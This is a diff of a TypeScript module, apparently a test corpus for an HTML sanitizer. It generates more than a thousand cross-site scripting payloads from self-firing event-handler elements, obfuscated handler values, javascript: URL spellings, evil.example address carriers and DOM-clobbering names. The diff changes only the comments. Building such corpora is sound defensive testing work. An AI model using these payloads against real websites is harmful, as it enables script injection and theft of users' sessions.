@@ -1,8 +1,8 @@
-// The parts of which attacks are made, put together in every way: what one spelling or one place hides, another shows.
+// Combinations of the parts of attacks.
 
 const probe = "alert(document.domain)";
 
-/** Elements that run a handler by themselves, as soon as they are on a page or shortly after; `%` is where it goes. */
+/** Elements whose handler runs without interaction; `%` is the place of a separator, `$` of a value. */
 const selfStarting = [
   "<img src=x %onerror=$>",
   `<img src=data:image/gif;base64,AAAA srcset="//evil.example/x 1x" %onerror=$>`,
@@ -36,10 +36,10 @@ const selfStarting = [
   "<dialog open autofocus tabindex=0 %onfocus=$>x</dialog>",
 ];
 
-/** What may stand between an element's name or attribute and a handler. */
+/** Separators before a handler. */
 const separators = ["", "/", "\t", "\n", "\f", "\r\n", "/ ", `a="b"`, `a='>'`, `a=b/`, `"`, `'x' `];
 
-/** Ways to write a handler's value. */
+/** Spellings of a handler's value. */
 const values = [
   probe,
   `"${probe}"`,
@@ -52,7 +52,7 @@ const values = [
   `"(0,eval)('ale'+'rt(1)')"`,
 ];
 
-/** Places in which HTML is read otherwise than it was written; `%` is where the attack goes. */
+/** Contexts that parsers treat differently; `%` is the place of the attack. */
 const places = [
   "%",
   "<p>%</p>",
@@ -101,7 +101,7 @@ const places = [
   "<pre><code>%</code></pre>",
 ];
 
-/** Elements and attributes whose value is an address; `%` is where it goes. */
+/** Attributes with an address; `%` is its place. */
 const carriers = [
   `<a href="%">x</a>`,
   `<a href='%' target=_blank>x</a>`,
@@ -129,7 +129,7 @@ const carriers = [
   `<p style="background:url('%')">x</p>`,
 ];
 
-/** Addresses that run something or hold a document, in the spellings that browsers read the same. */
+/** Addresses of scripts, documents and other hosts, in equivalent spellings. */
 const addresses = [
   `javascript:${probe}`,
   `JaVaScRiPt:${probe}`,
@@ -157,7 +157,7 @@ const addresses = [
   "blob:https://evil.example/x",
 ];
 
-/** Names by which an element would stand in for something that scripts of the page use. */
+/** Names of properties that scripts use (DOM clobbering). */
 const shadowed = [
   ..."getElementById querySelector body head cookie domain location documentElement forms images".split(" "),
   ..."createElement attributes childNodes parentNode nodeName innerHTML submit action method".split(" "),
@@ -174,7 +174,7 @@ const bearers = [
   `<object id="%"></object><a id="%" name="href" href="x:y">x</a>`,
 ];
 
-/** More than a thousand further attacks, by kind; no two are the same. */
+/** More than a thousand distinct attacks, by kind. */
 export const hostileVariants: Readonly<Record<string, readonly string[]>> = {
   "what starts by itself": across(selfStarting, separators).map(([element, separator], index) =>
     element.replaceAll("%", () => separator && ` ${separator}`).replaceAll("$", () => pick(values, index)),
